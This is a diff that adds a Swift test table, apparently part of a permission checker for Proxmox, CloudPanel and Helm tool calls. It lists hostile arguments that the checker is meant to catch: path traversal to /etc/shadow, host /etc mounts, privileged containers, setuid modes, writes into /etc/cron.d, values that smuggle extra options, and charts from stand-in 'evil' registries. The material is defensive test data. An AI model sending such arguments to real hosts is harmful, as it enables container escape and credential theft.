@@ -1,0 +1,143 @@
+import WireProtocol
+
+/// The operations of guests, sites and charts.
+extension Reaches {
+    private static func guest(_ more: JSONObject, _ vmid: Int64 = 900) -> Attempt {
+        var arguments: JSONObject = ["vmid": .integer(vmid)]
+        for member in more.members { arguments[member.key] = member.value }
+        return Attempt("proxmox/ct/\(vmid)", arguments)
+    }
+
+    private static func creation(_ more: JSONObject) -> Attempt {
+        var arguments: JSONObject = [
+            "hostname": "stolen", "template": "local:vztmpl/debian-12-standard_12.0_amd64.tar.zst",
+            "rootfs": ["storage": "labzfs", "size_gib": 1],
+        ]
+        for member in more.members { arguments[member.key] = member.value }
+        return guest(arguments)
+    }
+
+    /// Container 700 is privileged, 701 sees a folder of the node, 702 has a line of the kernel's own words.
+    private static let reaching: [Int64] = [700, 701, 702]
+
+    static let guests: [String: Reach] = [
+        "proxmox.container.create": .tried(
+            [
+                ["unprivileged": false], ["mounts": [["storage": "/etc", "size_gib": 1, "path": "/x"]]],
+                ["mounts": [["storage": "local", "size_gib": 1, "path": "/x,mp=/y"]]],
+                ["rootfs": ["storage": "/", "size_gib": 1]], ["template": "local:vztmpl/../../../etc/shadow"],
+                ["template": "/etc/shadow"], ["features": ["mount": "ext4"]], ["features": ["mknod": true]],
+                ["hookscript": "local:snippets/x"], ["ssh_keys": ["/root/.ssh/id_ed25519"]], ["lxc": ["a": "b"]],
+                ["networks": [["bridge": "vmbr0,hwaddr=x"]]],
+            ].map(creation)),
+        "proxmox.container.clone": .tried(
+            reaching.map { guest(["source": .integer($0), "hostname": "stolen"]) } + [
+                guest(["source": 700, "hostname": "stolen", "storage": "/etc"])
+            ]),
+        "proxmox.container.restore": .tried(
+            ["/etc/shadow", "local:backup/../../etc/shadow", "local:backup/vzdump-lxc-1/../../x"].map {
+                guest(["backup": .string($0)])
+            }),
+        "proxmox.container.push": .tried(
+            reaching.map { guest(["path": "/etc/cron.d/x", "size_bytes": 0], $0) }
+                + [
+                    guest(["path": "/../etc/x", "size_bytes": 0], 700),
+                    guest(["path": "/a", "size_bytes": 0, "mode": "u+s"], 700),
+                ]
+        ),
+        "proxmox.container.pull": .tried(
+            reaching.map { guest(["path": "/host/secret"], $0) } + [guest(["path": "/../etc/shadow"], 700)]),
+        "proxmox.container.set": .tried(
+            [
+                ["mounts": [["storage": "/etc", "size_gib": 1, "path": "/x"]]], ["unprivileged": false],
+                ["features": ["mount": "nfs"]], ["remove": ["unprivileged"]], ["lxc": ["a": "b"]],
+            ].map { guest($0, 703) }),
+        "proxmox.container.resize": .tried([guest(["disk": "mp0,mp=/etc", "size_gib": 2], 703)]),
+        "proxmox.container.backup": .tried(
+            ["/etc", "../x"].map { guest(["storage": .string($0)], 703) } + [
+                guest(["storage": "local", "dumpdir": "/"], 703)
+            ]),
+        "proxmox.backup.destroy": .tried(
+            ["/etc/shadow", "local:backup/../../etc/shadow"].map { guest(["backup": .string($0)], 703) }),
+        "proxmox.container.exec": .byName, "proxmox.backup.list": .looks, "proxmox.container.list": .looks,
+        "proxmox.container.inspect": .looks, "proxmox.storage.list": .looks, "proxmox.template.list": .looks,
+        "proxmox.container.destroy": .ownThings, "proxmox.container.template": .ownThings,
+        "proxmox.container.start": .ownThings, "proxmox.container.stop": .ownThings,
+        "proxmox.container.shutdown": .ownThings, "proxmox.container.restart": .ownThings,
+        "proxmox.container.unlock": .ownThings, "proxmox.container.migrate": .ownThings,
+        "proxmox.snapshot.list": .looks, "proxmox.snapshot.ensure": .ownThings,
+        "proxmox.snapshot.destroy": .ownThings, "proxmox.snapshot.rollback": .ownThings,
+        "proxmox.cluster.status": .looks, "proxmox.node.status": .looks, "proxmox.ha.status": .looks,
+        "proxmox.ha.add": .ownThings, "proxmox.ha.remove": .ownThings, "proxmox.ha.rule.list": .looks,
+        "proxmox.ha.rule.ensure": .ownThings, "proxmox.ha.rule.destroy": .ownThings,
+
+        "cloudpanel.template.add": .byName, "cloudpanel.dump.write": .byName,
+        "cloudpanel.user.add": .tried(
+            ["admin", "site-manager"].map { role in
+                Attempt(
+                    "cloudpanel/user/stolen",
+                    [
+                        "user": "stolen", "email": "a@example.org", "first_name": "A", "last_name": "B",
+                        "role": .string(role),
+                    ], secrets: ["password": "Aa1!bcdefgh"])
+            }),
+        "cloudpanel.user.password": .tried([
+            Attempt("cloudpanel/user/boss", ["user": "boss"], secrets: ["password": "Aa1!bcdefgh"])
+        ]),
+        "cloudpanel.site.add": .tried(
+            [["user": "root"], ["user": "clp"], ["domain": "../../etc"], ["user": "-o0"]].map { (wrong: JSONObject) in
+                var arguments: JSONObject = ["domain": "a.example.org", "user": "s1", "type": "static"]
+                for member in wrong.members { arguments[member.key] = member.value }
+                return Attempt("cloudpanel/site/\(arguments["domain"]?.asString ?? "")", arguments)
+            }),
+        "cloudpanel.site.permissions": .tried(
+            [["path": "/../../../etc"], ["files": "4777"], ["directories": "u+s"]].map { (wrong: JSONObject) in
+                var arguments: JSONObject = ["domain": "a.example.org"]
+                for member in wrong.members { arguments[member.key] = member.value }
+                return Attempt("cloudpanel/site/a.example.org", arguments)
+            }),
+        "cloudpanel.dump.read": .tried(
+            ["../secret.sql", "/etc/shadow", "link.sql", ".sql"].map {
+                Attempt("cloudpanel/dump/\($0)", ["dump": .string($0)])
+            }),
+        "cloudpanel.dump.delete": .tried(
+            ["../secret.sql", "/etc/shadow"].map { Attempt("cloudpanel/dump/\($0)", ["dump": .string($0)]) }),
+        "cloudpanel.database.export": .tried(
+            ["../secret.sql", "/etc/cron.d/x.sql"].map {
+                Attempt("cloudpanel/database/d", ["database": "d", "dump": .string($0)])
+            }),
+        "cloudpanel.database.import": .tried(
+            ["../secret.sql", "/etc/shadow"].map {
+                Attempt("cloudpanel/database/d", ["database": "d", "dump": .string($0)])
+            }),
+        "cloudpanel.certificate.install": .tried([
+            Attempt(
+                "cloudpanel/site/a.example.org", ["domain": "a.example.org", "certificate": "/etc/shadow"],
+                secrets: ["private_key": "/etc/shadow"])
+        ]),
+        "cloudpanel.certificate.order": .ownThings, "cloudpanel.certificate.show": .looks,
+        "cloudpanel.site.list": .looks, "cloudpanel.site.show": .looks, "cloudpanel.site.delete": .ownThings,
+        "cloudpanel.site.suspend": .ownThings, "cloudpanel.site.resume": .ownThings, "cloudpanel.dump.list": .looks,
+        "cloudpanel.database.list": .looks, "cloudpanel.database.add": .ownThings,
+        "cloudpanel.database.delete": .ownThings, "cloudpanel.user.list": .looks, "cloudpanel.user.delete": .ownThings,
+        "cloudpanel.template.list": .looks, "cloudpanel.template.show": .looks,
+        "cloudpanel.template.delete": .ownThings,
+
+        "helm.release.install": charts, "helm.release.upgrade": charts,
+        "helm.release.rollback": .nothing("it takes a release back to a revision that it had"),
+        "helm.release.list": .looks, "helm.release.status": .looks, "helm.release.history": .looks,
+        "helm.release.ready": .looks, "helm.release.events": .looks, "helm.release.logs": .looks,
+        "helm.release.heal": .ownThings, "helm.release.uninstall": .ownThings,
+    ]
+
+    /// A chart runs what it likes, with the node's own folders in it.
+    private static let charts = Reach.tried(
+        [
+            ["chart": "oci://registry.example.net/evil"], ["chart": "evil", "repo": "https://charts.example.net"],
+            ["chart": "NODE/kubernetes/charts/store-1.0.0"], ["chart": "/tmp/evil"],
+        ].map { (chart: JSONObject) in
+            var arguments: JSONObject = ["namespace": "shop", "release": "shop"]
+            for member in chart.members { arguments[member.key] = member.value }
+            return Attempt("helm/shop/shop", arguments)
+        })
+}
